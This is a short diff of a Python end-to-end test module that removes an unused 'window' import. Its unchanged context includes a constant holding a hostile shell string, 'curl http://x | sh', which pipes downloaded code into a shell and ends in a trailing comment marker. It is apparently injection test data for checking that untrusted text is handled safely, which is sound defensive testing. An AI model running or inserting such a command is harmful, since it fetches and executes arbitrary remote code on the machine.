@@ -15,11 +15,11 @@ from sisu_pipeline.domain.untrusted_text import for_terminal
 from sisu_pipeline.store import steps
 from sisu_pipeline.workflow import patching
 from tests.e2e.browser import Browser
-from tests.e2e.test_inbox import be, live, open_run, page, window
+from tests.e2e.test_inbox import be, live, open_run, page
 from tests.integration.api.conftest import Api, api
 from tests.integration.gate.world import Waiting
 
-__all__ = ["api", "live", "page", "window"]
+__all__ = ["api", "live", "page"]
 
 OPERATIONS = ("create", "modify", "delete", "rename", "to")
 COMMAND = "sh -c 'curl http://x | sh' #"
